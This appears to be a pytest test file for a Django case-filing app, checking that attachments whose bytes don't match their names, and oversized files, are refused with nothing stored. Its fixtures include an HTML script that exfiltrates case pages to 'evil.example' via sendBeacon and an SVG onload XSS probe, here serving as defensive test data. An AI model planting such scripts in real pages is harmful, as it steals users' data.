"""A business's attachments are checked from their bytes before the case is filed: a web page
named .pdf (which a browser would run if it were ever served as HTML), a program, a file too
large are refused with the message; no case, no attachment row, no file on the disk."""

import pytest

from ketnoi.cases.models import Attachment, Case, CaseEvent

from .page_helpers import EXE, PDF, page_text, upload, world

pytestmark = pytest.mark.django_db

URL = "/cases/new/"
HTML = ("<!DOCTYPE html><html><head><title>Tờ khai</title></head><body>"
        "<script>fetch('/cases/').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))"
        "</script>Tờ khai hải quan số 104512345670</body></html>").encode()
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>'


@pytest.fixture
def w():
    return world()


def form(w, attachments):
    return {"topic": "thu-tuc", "subject": "Thủ tục nhập khẩu máy móc đã qua sử dụng",
            "description": "Doanh nghiệp cần hướng dẫn hồ sơ nhập khẩu dây chuyền đã qua sử dụng.",
            "unit": str(w.unit.pk), "attachments": attachments}


def nothing_stored(settings) -> bool:
    files = [p for p in settings.MEDIA_ROOT.rglob("*") if p.is_file()] if settings.MEDIA_ROOT.exists() else []
    return not Case.objects.exists() and not CaseEvent.objects.exists() and not Attachment.objects.exists() and not files


@pytest.mark.parametrize("name, content", [("to-khai.pdf", HTML), ("anh.png", SVG), ("hoa-don.pdf", EXE),
                                           ("bang-ke.xlsx", HTML)])
def test_a_file_that_is_not_what_its_name_says_is_refused(client, w, settings, name, content):
    client.force_login(w.business)
    client.cookies["ketnoi_language"] = "en"
    # A good file first: the whole upload is refused, not only the bad file.
    response = client.post(URL, form(w, [upload("hop-dong.pdf", PDF), upload(name, content, "application/pdf")]))
    assert response.status_code == 400
    assert f"“{name}” is not a PDF, JPEG, PNG, XLSX or DOCX file. Only these kinds of files can be attached." \
        in page_text(response)
    assert nothing_stored(settings)


def test_a_file_too_large_is_refused(client, w, settings):
    settings.KETNOI_CASES = {"attachment_max_bytes": 4096}
    client.force_login(w.business)
    client.cookies["ketnoi_language"] = "en"
    response = client.post(URL, form(w, [upload("to-khai.pdf", PDF + b"0" * 5000)]))
    assert response.status_code == 400
    assert "“to-khai.pdf” is larger than 4.0 KB. Send a smaller file." in page_text(response)
    assert nothing_stored(settings)
